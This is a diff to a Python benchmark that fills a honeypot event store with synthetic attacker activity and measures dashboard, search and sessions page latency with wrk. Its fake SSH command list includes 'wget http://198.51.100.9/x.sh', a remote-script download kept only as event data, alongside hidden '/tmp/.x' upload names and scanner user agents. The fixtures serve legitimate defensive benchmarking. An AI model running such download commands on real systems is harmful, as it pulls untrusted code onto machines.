@@ -1,6 +1,7 @@
 #!/usr/bin/env python3
 """UI latency benchmark: fill a fresh store with N events through the API, log in,
-and measure the dashboard and events pages with wrk on loopback.
+and measure the dashboard, events, search and sessions pages with wrk on loopback.
+Every event names its own session, so N events are about N sessions.
 
     cargo build --release && python3 scripts/bench_ui.py target/release/nectar [EVENTS]
 
@@ -23,6 +24,8 @@ import urllib.request
 BIN = sys.argv[1] if len(sys.argv) > 1 else "target/release/nectar"
 EVENTS = int(sys.argv[2]) if len(sys.argv) > 2 else 1_000_000
 DURATION = os.environ.get("WRK_DURATION", "10s")
+# The hashes of the uploads the fill made (one is searched for).
+UPLOADS = []
 
 
 class NoRedirect(urllib.request.HTTPRedirectHandler):
@@ -55,6 +58,7 @@ def main():
         fill(url, token)
         cookie = login(url, open(os.path.join(data, "initial-admin-password")).read().strip())
         page1000 = walk(url, cookie, 1000)
+        sessions100 = walk(url, cookie, 100, "/sessions")
         pages = [
             ("dashboard, last day", "/"),
             ("dashboard, last week", "/?range=7d"),
@@ -64,6 +68,20 @@ def main():
             ("events, kind=ssh.*", "/events?kind=ssh.%2A"),
             ("events, src_ip", "/events?src_ip=198.51.100.77"),
             ("events, severity=high", "/events?severity=high"),
+            ("events, src_ip=198.51.100.0/24", "/events?src_ip=198.51.100.0/24"),
+            ("search, a rare word (q=word4999)", "/events?q=word4999"),
+            ("search, a common prefix (q=wget*)", "/events?q=wget%2A"),
+            ("search, a phrase (q=\"x.sh\")", "/events?q=%22x.sh%22"),
+            ("search, one SHA-256", "/events?q=" + UPLOADS[len(UPLOADS) // 2]),
+            ("search, a user agent and severity", "/events?q=zgrab&severity=info,low"),
+            ("events, password pivot", "/events?password=word17"),
+            ("sessions, default (interactive first)", "/sessions"),
+            ("sessions, page 100 (keyset)", sessions100),
+            ("sessions, newest first", "/sessions?order=newest"),
+            ("sessions, with commands", "/sessions?has_commands=1"),
+            ("sessions, src_ip=198.51.100.0/24", "/sessions?src_ip=198.51.100.0/24&range=all"),
+            ("sessions, logged in, ssh", "/sessions?logged_in=yes&protocol=ssh"),
+            ("sessions, text in commands (wget)", "/sessions?q=wget"),
         ]
         print(f"\n{EVENTS} events; wrk -t1 -c4 -d{DURATION} --latency per page\n")
         print("| page | req/s | p50 | p90 | p99 |")
@@ -90,8 +108,11 @@ def honeypot_sections():
 
 def fill(url, token):
     rng = random.Random(7)
-    kinds = [("ssh.login.failed", "low", 0.55), ("ssh.login.success", "medium", 0.02), ("ssh.command", "high", 0.13),
+    kinds = [("ssh.login.failed", "low", 0.55), ("ssh.login.success", "medium", 0.02), ("ssh.command", "high", 0.12),
+             ("ssh.upload", "medium", 0.01),
              ("http.request", "info", 0.27), ("net.alarm", "critical", 0.01), ("session.connect", "info", 0.02)]
+    agents = ["Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "python-requests/2.31", "Go-http-client/1.1",
+              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"]
     users = ["root", "admin", "pi", "ubuntu", "test", "oracle", "postgres", "user", "guest", "git"]
     commands = ["uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.9/x.sh", "busybox", "nproc", "free -m"]
     now = time.time()
@@ -116,6 +137,13 @@ def fill(url, token):
                 e["data"]["password"] = f"word{int(5000 * rng.random() ** 3)}"
             elif kind == "ssh.command":
                 e["data"]["input"] = rng.choice(commands)
+            elif kind == "ssh.upload":
+                e["data"]["sha256"] = sha(b * batch_size + i)
+                UPLOADS.append(e["data"]["sha256"])
+                e["data"]["filename"] = f"/tmp/.x{rng.randint(0, 999)}"
+            elif kind == "http.request":
+                e["data"]["path"] = f"/cgi-bin/{rng.choice(['luci', 'status', 'admin.cgi', 'test.sh'])}"
+                e["data"]["user_agent"] = rng.choice(agents)
             events.append(e)
         req = urllib.request.Request(url + "/api/v1/events", data=json.dumps(events).encode(),
                                      headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"})
@@ -139,13 +167,18 @@ def login(url, password):
     raise SystemExit("login failed")
 
 
-def walk(url, cookie, pages):
-    path = "/events"
+def walk(url, cookie, pages, start="/events"):
+    path = start
     for _ in range(pages - 1):
         html = urllib.request.urlopen(urllib.request.Request(url + path, headers={"Cookie": cookie})).read().decode()
-        m = re.search(r'href="(/events\?[^"]*cursor=[^"]+)"', html)
-        path = m.group(1).replace("&amp;", "&")
+        m = re.search(r'href="(' + re.escape(start) + r'\?[^"]*cursor=[^"]+)"', html)
+        path = m.group(1).replace("&#38;", "&").replace("&amp;", "&")
     return path
+
+
+def sha(i):
+    """The SHA-256 the fill gives upload number `i` (a stand-in: any 64 hex digits)."""
+    return f"{i:064x}"
 
 
 if __name__ == "__main__":
